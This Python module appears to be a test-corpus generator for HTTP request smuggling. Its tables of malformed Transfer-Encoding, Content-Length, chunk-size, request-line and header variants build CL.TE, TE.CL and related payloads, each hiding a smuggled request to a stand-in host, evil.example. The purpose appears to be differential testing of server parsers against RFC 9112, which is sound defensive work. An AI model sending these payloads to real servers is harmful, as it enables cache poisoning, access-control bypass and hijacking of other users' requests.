"""Messages that two servers could read as different numbers of requests, generated from tables.

Each message contains the text ``/smuggled`` at a place that a lenient server may read as a request line. By RFC 9112,
it is never a part of a request line.
"""

from __future__ import annotations

from collections.abc import Iterator

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
FIRST = b"/first"
HOST = b"Host: app.example\r\n"

Gadget = tuple[str, bytes]

# Lines that a lenient server may read as "Transfer-Encoding: chunked", but a strict server must not.
TE_LINES: list[bytes] = [
    b"Transfer-Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding: chunked\t ",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding\x0b: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"\x00Transfer-Encoding: chunked",
    b"Transfer-Encoding:: chunked",
    b"Transfer-Encoding: : chunked",
    b"Transfer-Encoding; chunked",
    b"Transfer-Encoding= chunked",
    b"Transfer-Encoding chunked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\x85",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: chunked\xa0",
    b"Transfer-Encoding: \xef\xbb\xbfchunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chu nked",
    b"Transfer-Encoding: chunked chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: [chunked]",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: cow",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: ,",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \r\n\tchunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer-Encoding:\n chunked",
    b"Transfer-Encoding:\nchunked",
    b"X: x\r\n\rTransfer-Encoding: chunked",
    b"X: x\nTransfer-Encoding: chunked",
    b"X: x\rTransfer-Encoding: chunked",
    b"X: x\r\n Transfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\ntransfer-encoding: identity",
    b"Transfer Encoding: chunked",
    b"Transfer-Enc\xc3\xb6ding: chunked",
    b"Transfer-Encod\xc4\xb1ng: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
]
# Lines that look like framing, but are not. Only the length counts.
PLAIN_LINES: list[bytes] = [
    b"Transfer_Encoding: chunked",
    b"TE: chunked",
    b"Content-Encoding: chunked",
    b"X-Transfer-Encoding: chunked",
    b"Trailer: Transfer-Encoding",
]

# Illegal forms of a length. N is its number.
LENGTHS: list[bytes] = [
    b"Content-Length: +N",
    b"Content-Length: -N",
    b"Content-Length: N N",
    b"Content-Length: N,N",
    b"Content-Length: N, N",
    b"Content-Length: N,",
    b"Content-Length: ,N",
    b"Content-Length: N;",
    b"Content-Length: N.0",
    b"Content-Length: Ne0",
    b"Content-Length: 0xN",
    b"Content-Length: 0bN",
    b"Content-Length: 0oN",
    b"Content-Length: N_0",
    b"Content-Length: 'N'",
    b'Content-Length: "N"',
    b"Content-Length: \x0bN",
    b"Content-Length: N\x0b",
    b"Content-Length: N\x00",
    b"Content-Length: \x00N",
    b"Content-Length: N\x85",
    b"Content-Length: \xa0N",
    b"Content-Length: \xd9\xa3N",
    b"Content-Length: \xef\xbc\x91N",
    b"Content-Length: N\xc2\xb2",
    b"Content-Length:",
    b"Content-Length: ten",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 18446744073709551626",
    b"Content-Length : N",
    b"Content-Length\t: N",
    b"Content-Length\0: N",
    b" Content-Length: N",
    b"\tContent-Length: N",
    b"Content-Length:: N",
    b"Content-Length: : N",
    b"Content-Length N",
    b"Content-Length=N",
    b"Content-Length:\r\n N",
    b"Content-Length: \r\n\tN",
    b"Content-Length:\nN",
    b"X: x\nContent-Length: N",
    b"X: x\rContent-Length: N",
    b"X: x\r\n Content-Length: N",
    b"X: x\r\n\rContent-Length: N",
    b"Content-Length: N\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: N",
    b"Content-Length: N\r\ncontent-length: N",
    b"Content-Length: N\r\nX: x\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length : 0",
    b"Content-Length: N\nContent-Length: 0",
    b"Content-Length: N\r\n Content-Length: 0",
    b"Content-L\xc4\xb1ngth: N",
]
# Legal lengths. The bytes that they cover are the body, and not a request.
GOOD_LENGTHS: list[bytes] = [
    b"Content-Length: N",
    b"content-length:N",
    b"Content-Length:\t N \t",
    b"Content-Length: 000N",
    b"Connection: Content-Length\r\nContent-Length: N",
    b"Content_Length: 0\r\nContent-Length: N",
    b"Transfer_Encoding: chunked\r\nContent-Length: N",
    b"X-Content-Length: 0\r\nContent-Length: N",
    b"Expect: 100-continue\r\nContent-Length: N",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: N",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\nContent-Length: N",
]

# Illegal chunk sizes for a chunk of five bytes.
SIZES: list[bytes] = [
    b"0x5",
    b"+5",
    b"-5",
    b" 5",
    b"\t5",
    b"5 ",
    b"5\t",
    b"5 ;a",
    b"5\x00",
    b"5\x0b",
    b"5,5",
    b"5.0",
    b"5_",
    b"5h",
    b"g",
    b"",
    b";",
    b";a=b",
    b"5;a\x00",
    b"5;a\x0bb",
    b'5;a="\x00"',
    b'5;a="b',
    b"10000000000000005",
    b"ffffffffffffffff5",
    b"100000000000000000000000000000005",
    b"\xef\xbc\x95",
    b"\xd9\xa5",
    b"5\r",
    b"5\n",
    b"5;a\n",
    b"5;a\r",
    b"5;a=b\nX: y",
    b"5;\n",
    b"5\r\nX",
    b"\r\n5",
    b"\n5",
    b"5;a\rb",
    b'5;a="b\nc"',
    b'5;a="\r\n',
]
# Illegal ends of a chunk of five bytes.
CHUNK_ENDS: list[bytes] = [
    b"",
    b"\n",
    b"\r",
    b"\n\r",
    b"\r\r",
    b"\n\n",
    b"x\r\n",
    b" \r\n",
    b"\x00\r\n",
    b"\r\n\r\n",
    b"\r\n\n",
]
# Illegal last chunks, and illegal ends of the trailers.
LAST_CHUNKS: list[bytes] = [
    b"0\n\n",
    b"0\r\n\n",
    b"0\n\r\n",
    b"0\r\r\n",
    b"0\r\n\r",
    b"-0\r\n\r\n",
    b"+0\r\n\r\n",
    b"0x0\r\n\r\n",
    b" 0\r\n\r\n",
    b"0 \r\n\r\n",
    b"0\t\r\n\r\n",
    b"0,\r\n\r\n",
    b"\x00\r\n\r\n",
    b"\r\n\r\n",
    b"0;\n\r\n",
    b"0;a\n\r\n",
    b"0\r\nX: a\n\r\n",
    b"0\r\nX: a\n\n",
    b"0\r\nX: a\rY: b\r\n\r\n",
    b"0\r\nX : a\r\n\r\n",
    b"0\r\n X: a\r\n\r\n",
    b"0\r\nX: a\r\n b\r\n\r\n",
    b"0\r\nX\r\n\r\n",
    b"0\r\n: a\r\n\r\n",
    b"0\r\nX: \x00\r\n\r\n",
    b"0\r\nX\x00: a\r\n\r\n",
    b"0\r\nX: \x7f\r\n\r\n",
    b"0\r\nContent-Length: 5\r\n\r\n",
    b"0\r\nContent-Length: 0\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"0\r\nTransfer-Encoding: identity\r\n\r\n",
    b"0\r\nContent-Length : 5\r\n\r\n",
]

# Illegal request lines.
REQUEST_LINES: list[bytes] = [
    b"GET /first",
    b"GET /first ",
    b"GET /first HTTP/0.9",
    b"GET /first HTTP/1.2",
    b"GET /first HTTP/1.10",
    b"GET /first HTTP/2.0",
    b"GET /first HTTP/3.0",
    b"GET /first HTTP/11",
    b"GET /first HTTP/1",
    b"GET /first HTTP/1.",
    b"GET /first HTTP/.1",
    b"GET /first HTTP/01.1",
    b"GET /first HTTP/1.1 ",
    b"GET /first HTTP/1.1x",
    b"GET /first HTTP/1.1\t",
    b"GET /first HTTP/1.1\x00",
    b"GET /first http/1.1",
    b"GET /first HTTPS/1.1",
    b"GET /first HTTP 1.1",
    b"GET\t/first HTTP/1.1",
    b"GET /first\tHTTP/1.1",
    b"GET\x0b/first HTTP/1.1",
    b"GET\x00 /first HTTP/1.1",
    b"get /first HTTP/1.1",
    b"Get /first HTTP/1.1",
    b"G\xc3\x89T /first HTTP/1.1",
    b"SMUGGLE /first HTTP/1.1",
    b"GET HTTP/1.1",
    b"GET  HTTP/1.1",
    b" GET /first HTTP/1.1",
    b"\tGET /first HTTP/1.1",
    b"\x00GET /first HTTP/1.1",
    b"GET /a b HTTP/1.1",
    b"GET /first /second HTTP/1.1",
    b"GET /first#fragment HTTP/1.1",
    b"GET first HTTP/1.1",
    b"GET ?first HTTP/1.1",
    b"GET \\first HTTP/1.1",
    b"GET http:/first HTTP/1.1",
    b"GET :80/first HTTP/1.1",
    b"CONNECT app.example:443 HTTP/1.1",
    b"CONNECT /first HTTP/1.1",
    b"CONNECT http://app.example/first HTTP/1.1",
    b"PRI * HTTP/2.0",
    b"GET /first HTTP/1.1\n",
    b"GET /first HTTP/1.1\r",
    b"GET /first\nHTTP/1.1",
    b"GET /first\rHTTP/1.1",
    b"GET /first\r\n HTTP/1.1",
]

# Illegal header lines, and header lines that a request cannot have.
HEADER_LINES: list[bytes] = [
    b"X",
    b": x",
    b"=x",
    b"X Y: z",
    b"X\t: y",
    b"X : y",
    b"X\xc3\xa4: y",
    b"X(: y",
    b"X,Y: z",
    b"X;Y: z",
    b"X/Y: z",
    b"X@Y: z",
    b"X[: y",
    b"X{: y",
    b'X": y',
    b"X: y\r\n z",
    b"X: y\r\n\tz",
    b"X: y\r\n ",
    b"X: y\nZ: z",
    b"X: y\rZ: z",
    b"X: y\n",
    b"X: y\r",
    b"X: y\n\r",
    b"\rX: y",
    b"\nX: y",
    b"Host: other.example",
    b"host: app.example",
    b"Host:",
    b"Expect: 200-ok",
    b"Expect: 100-continue, 200-ok",
]


def gadgets() -> Iterator[Gadget]:
    """Yield all gadgets with their names, without duplicates."""
    seen = set()
    for family in (_two_framings, _lengths, _chunks, _heads, _endings):
        for name, payload in family():
            if payload not in seen:
                seen.add(payload)
                yield name, payload


def post(lines: bytes, body: bytes, method: bytes = b"POST", version: bytes = b"1.1") -> bytes:
    return method + b" " + FIRST + b" HTTP/" + version + b"\r\n" + HOST + lines + b"\r\n\r\n" + body


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def _two_framings() -> Iterator[Gadget]:
    """Yield CL.TE and TE.CL: two framings in one head, in both orders, with every form of the second."""
    ended = b"0\r\n\r\n" + SMUGGLED
    inside = _chunk(SMUGGLED) + b"0\r\n\r\n"
    for number, line in enumerate(TE_LINES):
        whole = b"Content-Length: %d" % len(ended)
        size_line = b"Content-Length: %d" % len(b"%x\r\n" % len(SMUGGLED))
        yield f"cl-te-{number}", post(whole + b"\r\n" + line, ended)
        yield f"te-cl-{number}", post(line + b"\r\n" + size_line, inside)
        yield f"cl-te-1.0-{number}", post(b"Connection: keep-alive\r\n" + line + b"\r\n" + whole, ended, version=b"1.0")
        if number > 2:
            yield f"cl-te-get-{number}", post(line + b"\r\n" + whole, ended, method=b"GET")
    for number, line in enumerate(PLAIN_LINES):
        yield f"cl-plain-{number}", post(b"Content-Length: %d\r\n" % len(ended) + line, ended)
    for method in (b"GET", b"PUT", b"DELETE", b"OPTIONS", b"PATCH"):
        yield f"cl-te-{method.decode()}", post(b"Content-Length: 5\r\nTransfer-Encoding: chunked", ended, method)


def _lengths() -> Iterator[Gadget]:
    """Yield lengths that one server accepts and another does not."""
    short = b"Content-Length: 0"
    for number, line in enumerate(LENGTHS):
        told = line.replace(b"N", b"%d" % len(SMUGGLED), 2) if b"N" in line else line
        yield f"length-{number}", post(told, SMUGGLED)
        yield f"length-get-{number}", post(told, SMUGGLED, method=b"GET")
        yield f"length-then-short-{number}", post(told + b"\r\n" + short, SMUGGLED)
        yield f"short-then-length-{number}", post(short + b"\r\n" + told, SMUGGLED)
    for number, line in enumerate(GOOD_LENGTHS):
        told = line.replace(b"N", b"%d" % len(SMUGGLED)) if b"HTTP2" not in line else line[:-1] + b"%d" % len(SMUGGLED)
        for method in (b"POST", b"GET", b"DELETE"):
            yield f"good-length-{number}-{method.decode()}", post(told, SMUGGLED, method)


def _chunks() -> Iterator[Gadget]:
    """Yield chunked bodies for which a lenient server finds another end."""
    chunked = b"Transfer-Encoding: chunked"
    for number, size in enumerate(SIZES):
        yield f"size-{number}", post(chunked, size + b"\r\nhello\r\n0\r\n\r\n" + SMUGGLED)
        yield f"second-size-{number}", post(chunked, b"1\r\nx\r\n" + size + b"\r\nhello\r\n0\r\n\r\n" + SMUGGLED)
    for number, end in enumerate(CHUNK_ENDS):
        yield f"chunk-end-{number}", post(chunked, b"5\r\nhello" + end + b"0\r\n\r\n" + SMUGGLED)
    for number, last in enumerate(LAST_CHUNKS):
        yield f"last-chunk-{number}", post(chunked, b"5\r\nhello\r\n" + last + SMUGGLED)
        yield f"only-chunk-{number}", post(chunked, last + SMUGGLED)
    for number, good in enumerate((b"", b";a=b", b';a="b;c"', b";a;b=c")):
        body = b"%x%s\r\n%s\r\n0%s\r\n\r\n" % (len(SMUGGLED), good, SMUGGLED, good)
        yield f"good-extension-{number}", post(chunked, body)
    yield "endless-extension", post(chunked, b"5;" + b"a" * 2_000_000 + b"\r\nhello\r\n0\r\n\r\n" + SMUGGLED)
    yield "1.0-chunked", post(chunked, b"0\r\n\r\n" + SMUGGLED, version=b"1.0")
    yield "1.0-chunked-kept", post(chunked + b"\r\nConnection: keep-alive", b"0\r\n\r\n" + SMUGGLED, version=b"1.0")


def _heads() -> Iterator[Gadget]:
    """Yield illegal heads. The bytes after such a head are not a request."""
    for number, line in enumerate(REQUEST_LINES):
        yield f"request-line-{number}", line + b"\r\n" + HOST + b"\r\n" + SMUGGLED
    for number, line in enumerate(HEADER_LINES):
        yield f"header-{number}", b"GET /first HTTP/1.1\r\n" + HOST + line + b"\r\n\r\n" + SMUGGLED
    for control in [*range(9), 11, 12, *range(14, 32), 127]:
        byte = bytes([control])
        yield (
            f"control-{control}-in-value",
            b"GET /first HTTP/1.1\r\n" + HOST + b"X: a" + byte + b"b\r\n\r\n" + SMUGGLED,
        )
        yield f"control-{control}-in-name", b"GET /first HTTP/1.1\r\n" + HOST + b"X" + byte + b": b\r\n\r\n" + SMUGGLED
        yield f"control-{control}-in-target", b"GET /fi" + byte + b"rst HTTP/1.1\r\n" + HOST + b"\r\n" + SMUGGLED
    yield "no-host", b"GET /first HTTP/1.1\r\n\r\n" + SMUGGLED
    yield "bare-line-feeds", b"GET /first HTTP/1.1\nHost: a\n\n" + SMUGGLED
    yield "bare-line-feed-at-the-end", b"GET /first HTTP/1.1\r\nHost: a\r\n\n" + SMUGGLED
    yield "bare-carriage-returns", b"GET /first HTTP/1.1\rHost: a\r\r" + SMUGGLED
    yield "request-in-a-value", b"GET /first HTTP/1.1\r\n" + HOST + b"X: y\r\r\n\r\n" + SMUGGLED


def _endings() -> Iterator[Gadget]:
    """Yield requests after which the connection cannot have another request."""
    yield "after-close", b"GET /first HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n" + SMUGGLED
    yield "after-close-in-a-list", b"GET /first HTTP/1.1\r\n" + HOST + b"Connection: x, CLOSE\r\n\r\n" + SMUGGLED
    yield "after-1.0", b"GET /first HTTP/1.0\r\n" + HOST + b"\r\n" + SMUGGLED
    yield "after-0.9", b"GET /first\r\n" + SMUGGLED
    yield "after-connect", b"CONNECT a.example:80 HTTP/1.1\r\n" + HOST + b"\r\n" + SMUGGLED
    yield (
        "after-connect-kept",
        b"CONNECT a.example:80 HTTP/1.1\r\n" + HOST + b"Connection: keep-alive\r\n\r\n" + SMUGGLED,
    )
    http_2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "http-2-preface", http_2 + SMUGGLED
    yield "after-a-bad-one", post(b"Content-Length: x", SMUGGLED * 9)
